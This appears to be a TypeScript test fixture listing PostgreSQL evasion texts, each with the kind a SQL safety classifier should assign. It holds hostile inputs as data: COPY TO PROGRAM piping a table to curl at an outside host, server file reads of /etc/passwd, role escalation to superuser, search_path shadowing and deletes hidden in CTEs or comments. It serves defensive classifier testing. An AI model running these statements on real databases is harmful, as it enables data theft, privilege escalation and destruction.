/**
 * A public corpus of SQL texts that try to look more harmless than they are, with the kind the
 * PostgreSQL classifier must give the whole text (the most restrictive of its statements).
 * `empty` marks texts with no statement at all (PostgreSQL answers EmptyQueryResponse).
 */
import type { ActionKind } from '../../src/core/action.ts';

export interface EvasionCase {
  readonly sql: string;
  readonly kind: ActionKind | 'empty';
  readonly note: string;
}

export const POSTGRES_EVASIONS: readonly EvasionCase[] = [
  // Comments and layout
  {
    sql: 'SELECT 1 /* ; DELETE FROM t */',
    kind: 'read',
    note: 'statement inside a block comment is not a statement',
  },
  {
    sql: 'SELECT 1 -- ; DELETE FROM t',
    kind: 'read',
    note: 'statement inside a line comment is not a statement',
  },
  {
    sql: 'SELECT 1 /* outer /* inner */ still comment; DROP TABLE t */',
    kind: 'read',
    note: 'nested block comments: the DROP is still inside the outer comment',
  },
  {
    sql: 'SELECT 1 /* outer /* inner */ */; DELETE FROM t',
    kind: 'write',
    note: 'nested comment closes properly, then a DELETE follows',
  },
  { sql: '/* hi */ DELETE /* there */ FROM /**/ t', kind: 'write', note: 'comments between keywords' },
  { sql: '-- leading comment\nDELETE FROM t', kind: 'write', note: 'line comment before a write' },
  {
    sql: 'SELECT 1 --\n; DELETE FROM t',
    kind: 'write',
    note: 'line comment ends at newline; DELETE is real',
  },
  { sql: 'SELECT 1; --x\rDELETE FROM t', kind: 'write', note: 'a carriage return also ends a line comment' },
  {
    sql: 'SELECT 1 --x\rDELETE FROM t',
    kind: 'read',
    note: 'without a semicolon the server reads DELETE as a column alias: SELECT 1 AS delete FROM t',
  },
  { sql: 'dElEtE\tfRoM\n\n  t', kind: 'write', note: 'odd case and whitespace' },
  {
    sql: '\u00a0SELECT 1',
    kind: 'unknown',
    note: 'non-breaking space is not SQL whitespace: does not parse',
  },
  { sql: '   \n\t  ', kind: 'empty', note: 'whitespace only' },
  { sql: '-- just a comment', kind: 'empty', note: 'comment only' },
  { sql: '/* a */ /* b /* c */ */', kind: 'empty', note: 'nested comments only' },
  { sql: ';;;', kind: 'empty', note: 'empty statements only' },
  { sql: '', kind: 'empty', note: 'empty text' },

  // Strings that look like SQL
  { sql: "SELECT 'x; DELETE FROM t'", kind: 'read', note: 'SQL inside a string literal' },
  { sql: "SELECT E'x\\'; DELETE FROM t; --'", kind: 'read', note: 'escaped quote inside an E string' },
  {
    sql: "SELECT 'it''s'; DELETE FROM t",
    kind: 'write',
    note: 'doubled quote ends properly, DELETE follows',
  },
  { sql: 'SELECT $$; DELETE FROM t; $$', kind: 'read', note: 'SQL inside a dollar-quoted string' },
  { sql: 'SELECT $tag$ $$; DROP TABLE t; $$ $tag$', kind: 'read', note: 'tagged dollar quote containing $$' },
  { sql: 'SELECT $a$x$a$; DROP TABLE t', kind: 'schema', note: 'dollar quote closes, DROP follows' },
  { sql: 'SELECT "DELETE FROM t" FROM t2', kind: 'read', note: 'quoted identifier that looks like SQL' },
  { sql: "SELECT U&'\\0044ELETE'", kind: 'read', note: 'unicode escape string' },
  { sql: "SELECT 'a' || '; TRUNCATE t'", kind: 'read', note: 'concatenated strings' },

  // Several statements in one text
  { sql: 'SELECT 1; DELETE FROM t', kind: 'write', note: 'read then write: most restrictive wins' },
  { sql: 'SELECT 1; SELECT 2', kind: 'read', note: 'two reads' },
  { sql: 'BEGIN; UPDATE t SET a = 1; COMMIT', kind: 'write', note: 'write wrapped in a transaction' },
  { sql: 'SELECT 1; GRANT ALL ON t TO public', kind: 'privilege', note: 'grant after a read' },
  { sql: 'SELECT 1;DROP TABLE t;SELECT 2', kind: 'schema', note: 'drop between reads, no spaces' },

  // Data-modifying CTEs
  { sql: 'WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d', kind: 'write', note: 'DELETE in a CTE' },
  {
    sql: 'WITH a AS (SELECT 1), b AS (UPDATE t SET x = 1 RETURNING x) SELECT * FROM a, b',
    kind: 'write',
    note: 'UPDATE in a second CTE',
  },
  {
    sql: 'WITH a AS (WITH b AS (INSERT INTO t VALUES (1) RETURNING 1) SELECT * FROM b) SELECT * FROM a',
    kind: 'write',
    note: 'INSERT in a nested CTE',
  },
  {
    sql: 'SELECT * FROM (WITH d AS (DELETE FROM t RETURNING 1) SELECT * FROM d) s',
    kind: 'write',
    note: 'data-modifying CTE inside a subquery',
  },
  {
    sql: 'SELECT 1 UNION ALL (WITH d AS (DELETE FROM t RETURNING 1) SELECT * FROM d)',
    kind: 'write',
    note: 'data-modifying CTE inside a UNION arm',
  },
  {
    sql: 'WITH m AS (MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE RETURNING t.id) SELECT * FROM m',
    kind: 'write',
    note: 'MERGE in a CTE',
  },
  { sql: 'WITH t AS (SELECT 1) SELECT * FROM t', kind: 'read', note: 'harmless CTE' },

  // Plain DML
  { sql: 'INSERT INTO t VALUES (1)', kind: 'write', note: 'insert' },
  { sql: 'UPDATE t SET a = a + 1 WHERE id = 7', kind: 'write', note: 'update' },
  { sql: 'DELETE FROM orders WHERE id = 7', kind: 'write', note: 'delete' },
  { sql: 'TRUNCATE t', kind: 'write', note: 'truncate is a write with statement TruncateStmt' },
  {
    sql: 'MERGE INTO t USING s ON t.id = s.id WHEN NOT MATCHED THEN INSERT VALUES (s.id)',
    kind: 'write',
    note: 'merge',
  },
  { sql: 'INSERT INTO t SELECT * FROM s ON CONFLICT DO NOTHING', kind: 'write', note: 'insert select' },

  // Procedural code
  { sql: 'DO $$ BEGIN PERFORM 1; END $$', kind: 'admin', note: 'DO block' },
  { sql: "DO LANGUAGE plpgsql 'BEGIN NULL; END'", kind: 'admin', note: 'DO with language' },
  { sql: 'CALL do_things(1)', kind: 'admin', note: 'CALL a procedure' },

  // EXPLAIN
  { sql: 'EXPLAIN ANALYZE DELETE FROM t', kind: 'write', note: 'EXPLAIN ANALYZE runs the DELETE' },
  {
    sql: 'EXPLAIN (ANALYZE, BUFFERS) UPDATE t SET a = 1',
    kind: 'write',
    note: 'EXPLAIN (ANALYZE, ...) runs it',
  },
  { sql: 'EXPLAIN (ANALYZE true) DELETE FROM t', kind: 'write', note: 'ANALYZE true' },
  { sql: 'EXPLAIN (ANALYZE off) DELETE FROM t', kind: 'read', note: 'ANALYZE off only plans' },
  { sql: 'EXPLAIN DELETE FROM t', kind: 'read', note: 'plain EXPLAIN does not run the DELETE' },
  { sql: 'EXPLAIN SELECT * FROM t', kind: 'read', note: 'plain EXPLAIN of a read' },
  {
    sql: 'EXPLAIN ANALYZE CREATE TABLE x AS SELECT 1',
    kind: 'schema',
    note: 'EXPLAIN ANALYZE of CREATE TABLE AS',
  },

  // Tables created by queries
  { sql: 'SELECT * INTO new_t FROM t', kind: 'schema', note: 'SELECT INTO creates a table' },
  { sql: 'CREATE TABLE x AS SELECT * FROM t', kind: 'schema', note: 'CREATE TABLE AS' },
  { sql: 'CREATE MATERIALIZED VIEW mv AS SELECT 1', kind: 'schema', note: 'materialized view' },

  // COPY
  { sql: "COPY t TO PROGRAM 'curl -d @- http://x'", kind: 'admin', note: 'COPY TO PROGRAM' },
  { sql: "COPY t FROM PROGRAM 'id'", kind: 'admin', note: 'COPY FROM PROGRAM' },
  { sql: "COPY t FROM '/etc/passwd'", kind: 'admin', note: 'COPY FROM a server file' },
  { sql: "COPY (SELECT 1) TO '/tmp/x'", kind: 'admin', note: 'COPY TO a server file' },
  { sql: 'COPY t FROM STDIN', kind: 'write', note: 'COPY FROM STDIN loads rows' },
  { sql: 'COPY t TO STDOUT', kind: 'read', note: 'COPY TO STDOUT reads' },
  { sql: 'COPY (SELECT * FROM t) TO STDOUT WITH (FORMAT csv)', kind: 'read', note: 'COPY query TO STDOUT' },
  {
    sql: 'COPY (DELETE FROM t RETURNING *) TO STDOUT',
    kind: 'write',
    note: 'COPY of a DELETE ... RETURNING',
  },

  // Prepared statements and cursors
  { sql: 'PREPARE p AS DELETE FROM t WHERE id = $1', kind: 'write', note: 'PREPARE of a write' },
  { sql: 'PREPARE p(int) AS SELECT * FROM t WHERE id = $1', kind: 'read', note: 'PREPARE of a read' },
  { sql: 'EXECUTE p(1)', kind: 'unknown', note: 'EXECUTE: the prepared text is not visible' },
  { sql: 'DEALLOCATE p', kind: 'read', note: 'DEALLOCATE' },
  { sql: 'DECLARE c CURSOR FOR SELECT * FROM t', kind: 'read', note: 'cursor over a read' },
  { sql: 'DECLARE c CURSOR FOR SELECT * FROM t FOR UPDATE', kind: 'write', note: 'cursor taking row locks' },
  { sql: 'FETCH 10 FROM c', kind: 'read', note: 'FETCH' },
  { sql: 'CLOSE c', kind: 'read', note: 'CLOSE' },

  // Settings and roles
  { sql: 'SET ROLE postgres', kind: 'privilege', note: 'SET ROLE' },
  { sql: 'SET LOCAL ROLE postgres', kind: 'privilege', note: 'SET LOCAL ROLE' },
  {
    sql: 'SET "ROLE" TO postgres',
    kind: 'privilege',
    note: 'quoted upper-case parameter name is still role',
  },
  { sql: 'RESET ROLE', kind: 'privilege', note: 'RESET ROLE' },
  { sql: 'SET SESSION AUTHORIZATION postgres', kind: 'privilege', note: 'SET SESSION AUTHORIZATION' },
  { sql: "SELECT set_config('role', 'postgres', false)", kind: 'privilege', note: 'set_config in a select' },
  {
    sql: "SELECT 1 WHERE pg_catalog.set_config('role', 'postgres', false) IS NOT NULL",
    kind: 'privilege',
    note: 'qualified set_config in a WHERE clause',
  },
  {
    sql: "SET session_replication_role = 'replica'",
    kind: 'admin',
    note: 'disables triggers and foreign keys',
  },
  { sql: 'SET default_transaction_read_only = off', kind: 'admin', note: 'lifts the read-only safety net' },
  { sql: 'SET search_path = evil, pg_catalog', kind: 'admin', note: 'lets evil shadow built-in functions' },
  { sql: 'SET search_path = public', kind: 'read', note: 'ordinary search_path' },
  { sql: "SET statement_timeout = '5s'", kind: 'read', note: 'ordinary setting' },
  { sql: 'SHOW search_path', kind: 'read', note: 'SHOW' },
  { sql: 'DISCARD ALL', kind: 'privilege', note: 'DISCARD ALL resets the session authorization' },
  { sql: 'DISCARD PLANS', kind: 'read', note: 'DISCARD PLANS' },

  // Row locks, notifications, locks
  { sql: 'SELECT * FROM t FOR UPDATE', kind: 'write', note: 'locking read' },
  { sql: 'SELECT * FROM t FOR SHARE SKIP LOCKED', kind: 'write', note: 'share lock' },
  {
    sql: '(SELECT * FROM t FOR UPDATE) UNION ALL SELECT * FROM t',
    kind: 'write',
    note: 'row lock inside a UNION arm (the server refuses it at analysis, but it is no read)',
  },
  { sql: 'NOTIFY ch', kind: 'write', note: 'NOTIFY' },
  { sql: "SELECT pg_notify('ch', 'x')", kind: 'write', note: 'pg_notify' },
  { sql: 'LISTEN ch', kind: 'read', note: 'LISTEN' },
  { sql: 'LOCK TABLE t IN ACCESS EXCLUSIVE MODE', kind: 'write', note: 'LOCK' },
  { sql: 'SELECT pg_advisory_lock(1)', kind: 'write', note: 'advisory lock' },

  // Maintenance
  { sql: 'VACUUM FULL t', kind: 'admin', note: 'VACUUM' },
  { sql: 'ANALYZE t', kind: 'admin', note: 'ANALYZE' },
  { sql: 'REINDEX TABLE t', kind: 'admin', note: 'REINDEX' },
  { sql: 'CLUSTER t USING t_pkey', kind: 'admin', note: 'CLUSTER' },
  { sql: 'REFRESH MATERIALIZED VIEW mv', kind: 'admin', note: 'REFRESH MATERIALIZED VIEW' },
  { sql: 'CHECKPOINT', kind: 'admin', note: 'CHECKPOINT' },
  { sql: "ALTER SYSTEM SET log_statement = 'none'", kind: 'admin', note: 'ALTER SYSTEM' },
  { sql: "LOAD 'evil'", kind: 'admin', note: 'LOAD a library' },
  { sql: 'CREATE DATABASE x', kind: 'admin', note: 'CREATE DATABASE' },

  // Privileges
  { sql: 'GRANT SELECT ON t TO bob', kind: 'privilege', note: 'GRANT' },
  { sql: 'REVOKE ALL ON t FROM bob', kind: 'privilege', note: 'REVOKE' },
  { sql: "CREATE ROLE eve LOGIN SUPERUSER PASSWORD 'x'", kind: 'privilege', note: 'CREATE ROLE' },
  { sql: 'ALTER ROLE bob SUPERUSER', kind: 'privilege', note: 'ALTER ROLE' },
  { sql: 'GRANT admin TO bob', kind: 'privilege', note: 'role membership' },
  { sql: 'ALTER TABLE t DISABLE ROW LEVEL SECURITY', kind: 'privilege', note: 'row security off' },
  { sql: 'ALTER TABLE t OWNER TO bob', kind: 'privilege', note: 'ownership change' },

  // Schema
  { sql: 'CREATE TABLE x (id int)', kind: 'schema', note: 'CREATE TABLE' },
  { sql: 'DROP TABLE IF EXISTS t CASCADE', kind: 'schema', note: 'DROP TABLE' },
  { sql: 'ALTER TABLE t ADD COLUMN c int', kind: 'schema', note: 'ALTER TABLE' },
  { sql: "COMMENT ON TABLE t IS 'x'", kind: 'schema', note: 'COMMENT' },
  { sql: 'CREATE INDEX ON t (a)', kind: 'schema', note: 'CREATE INDEX' },

  // Functions
  { sql: "SELECT nextval('s')", kind: 'write', note: 'nextval advances a sequence' },
  { sql: "SELECT pg_read_file('/etc/passwd')", kind: 'admin', note: 'server file read' },
  {
    sql: "SELECT * FROM pg_catalog.pg_ls_dir('.')",
    kind: 'admin',
    note: 'directory listing as a table function',
  },
  { sql: "SELECT * FROM dblink('host=x', 'DELETE FROM t') AS r(a int)", kind: 'admin', note: 'dblink' },
  { sql: "SELECT dblink_exec('DROP TABLE t')", kind: 'admin', note: 'dblink_exec' },
  { sql: "SELECT lo_import('/etc/passwd')", kind: 'admin', note: 'lo_import' },
  { sql: 'SELECT pg_terminate_backend(123)', kind: 'admin', note: 'kills another session' },
  { sql: 'SELECT wipe_everything()', kind: 'unknown', note: 'user function with unknown side effects' },
  {
    sql: 'SELECT public.lower(name) FROM t',
    kind: 'unknown',
    note: 'schema-qualified name is not the built-in',
  },
  { sql: 'SELECT * FROM t WHERE id = evil()', kind: 'unknown', note: 'unknown function hidden in WHERE' },
  {
    sql: "SELECT query_to_xml('DELETE FROM t', true, true, '')",
    kind: 'unknown',
    note: 'runs SQL given as text',
  },
  { sql: 'SELECT a ==> b FROM t', kind: 'unknown', note: 'user-defined operator' },
  {
    sql: 'SELECT count(*), max(a), coalesce(b, 0), lower(c), now() FROM t',
    kind: 'read',
    note: 'harmless built-ins',
  },
  {
    sql: 'SELECT pg_catalog.pg_get_userbyid(1), pg_catalog.format_type(23, -1)',
    kind: 'read',
    note: 'psql catalog helpers',
  },
  { sql: 'SELECT abalance FROM pgbench_accounts WHERE aid = 12345;', kind: 'read', note: 'pgbench -S' },

  // More ways to hide a change inside something that reads
  {
    sql: 'WITH x AS (UPDATE t SET a = 1 RETURNING *) SELECT * FROM x',
    kind: 'write',
    note: 'UPDATE in a CTE',
  },
  {
    sql: 'WITH a AS (SELECT 1), b AS (INSERT INTO t VALUES (1) RETURNING 1) SELECT * FROM a',
    kind: 'write',
    note: 'unused data-modifying CTE still runs',
  },
  {
    sql: 'COPY (DELETE FROM t RETURNING *) TO STDOUT',
    kind: 'write',
    note: 'COPY of a DELETE ... RETURNING',
  },
  {
    sql: 'MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE',
    kind: 'write',
    note: 'MERGE',
  },
  {
    sql: 'EXPLAIN (ANALYZE, FORMAT JSON) UPDATE t SET a = 1',
    kind: 'write',
    note: 'EXPLAIN ANALYZE with options runs the UPDATE',
  },
  { sql: "EXPLAIN ANALYZE SELECT nextval('s')", kind: 'write', note: 'EXPLAIN ANALYZE runs nextval' },
  { sql: 'CREATE TEMP TABLE x AS SELECT 1', kind: 'schema', note: 'temporary CREATE TABLE AS' },
  { sql: 'SELECT * INTO TEMP x FROM t', kind: 'schema', note: 'SELECT INTO a temporary table' },
  { sql: 'PREPARE p AS DELETE FROM t; EXECUTE p', kind: 'unknown', note: 'PREPARE then EXECUTE' },
  { sql: 'select/**/1;delete/**/from/**/t', kind: 'write', note: 'comments instead of spaces' },
  { sql: 'SeLeCt 1 ;\tInSeRt\nInTo t VaLuEs (1)', kind: 'write', note: 'mixed case, tabs and newlines' },
  { sql: 'BEGIN; DELETE FROM t; ROLLBACK', kind: 'write', note: 'a write inside a rolled-back transaction' },
  { sql: 'SELECT 1; COMMIT; DROP TABLE t', kind: 'schema', note: 'DROP after a COMMIT' },
  { sql: 'VALUES (1), (2)', kind: 'read', note: 'VALUES' },
  { sql: 'TABLE t', kind: 'read', note: 'TABLE shorthand' },
  { sql: 'SELECT * FROM t TABLESAMPLE evil(10)', kind: 'unknown', note: 'unknown sampling method' },
  { sql: 'REFRESH MATERIALIZED VIEW CONCURRENTLY mv', kind: 'admin', note: 'concurrent refresh' },
  {
    sql: 'SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE',
    kind: 'admin',
    note: 'session characteristics lift read-only',
  },
  {
    sql: 'SET session_replication_role = replica',
    kind: 'admin',
    note: 'switches triggers and foreign keys off',
  },
  {
    sql: 'SET LOCAL search_path = evil, pg_catalog',
    kind: 'admin',
    note: 'LOCAL search_path before pg_catalog',
  },
  { sql: 'SELECT lo_unlink(12345)', kind: 'admin', note: 'deletes a large object' },
  { sql: 'SELECT pg_reload_conf()', kind: 'admin', note: 'reloads the server configuration' },
  { sql: 'LISTEN ch; NOTIFY ch', kind: 'write', note: 'NOTIFY after LISTEN' },
  {
    sql: "SELECT pg_catalog.set_config('role', 'postgres', true)",
    kind: 'privilege',
    note: 'qualified set_config',
  },
  { sql: 'SELECT evil.now()', kind: 'unknown', note: 'built-in name in another schema is a user function' },
  { sql: 'SELECT * FROM t FOR NO KEY UPDATE SKIP LOCKED', kind: 'write', note: 'FOR NO KEY UPDATE' },
  { sql: 'SELECT * FROM t FOR KEY SHARE', kind: 'write', note: 'FOR KEY SHARE' },
  { sql: 'VACUUM (FULL, ANALYZE) t', kind: 'admin', note: 'VACUUM FULL' },
  { sql: 'CLUSTER t USING t_pkey', kind: 'admin', note: 'CLUSTER USING' },
  { sql: 'REINDEX (CONCURRENTLY) TABLE t', kind: 'admin', note: 'REINDEX CONCURRENTLY' },
  { sql: 'LOCK TABLE t IN ACCESS EXCLUSIVE MODE', kind: 'write', note: 'LOCK ACCESS EXCLUSIVE' },
  { sql: 'DO LANGUAGE plpgsql $x$ BEGIN PERFORM 1; END $x$', kind: 'admin', note: 'DO with a harmless body' },
  { sql: 'CALL pg_catalog.now()', kind: 'admin', note: 'CALL of anything' },
  { sql: 'ALTER TABLE t DISABLE TRIGGER ALL', kind: 'schema', note: 'triggers off' },
  { sql: 'GRANT ALL ON ALL TABLES IN SCHEMA public TO PUBLIC', kind: 'privilege', note: 'grant to everyone' },
  {
    sql: 'ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO PUBLIC',
    kind: 'privilege',
    note: 'default privileges',
  },
  { sql: "SELECT dblink_exec('dbname=x', 'DROP TABLE t')", kind: 'admin', note: 'dblink_exec' },
  { sql: 'RESET ALL', kind: 'read', note: 'RESET ALL keeps the role' },
  {
    sql: "SELECT E'\\';DELETE FROM t;--'",
    kind: 'read',
    note: 'escaped quote keeps the DELETE inside the string',
  },
  {
    sql: 'SELECT $a$ $$ ; DELETE FROM t $$ $a$',
    kind: 'read',
    note: 'inner $$ inside an outer tagged quote',
  },

  // Unparsable
  { sql: 'SELEKT * FROM t', kind: 'unknown', note: 'misspelled keyword' },
  {
    sql: 'SELECT 1; DELETE FROM',
    kind: 'unknown',
    note: 'garbage after a valid statement: whole text unknown',
  },
  { sql: 'SELECT 1\u0000; DELETE FROM t', kind: 'unknown', note: 'NUL byte would truncate the parser input' },
  { sql: "SELECT 'unterminated", kind: 'unknown', note: 'unterminated string' },
  { sql: 'SELECT 1 /* unterminated comment', kind: 'unknown', note: 'unterminated comment' },
];
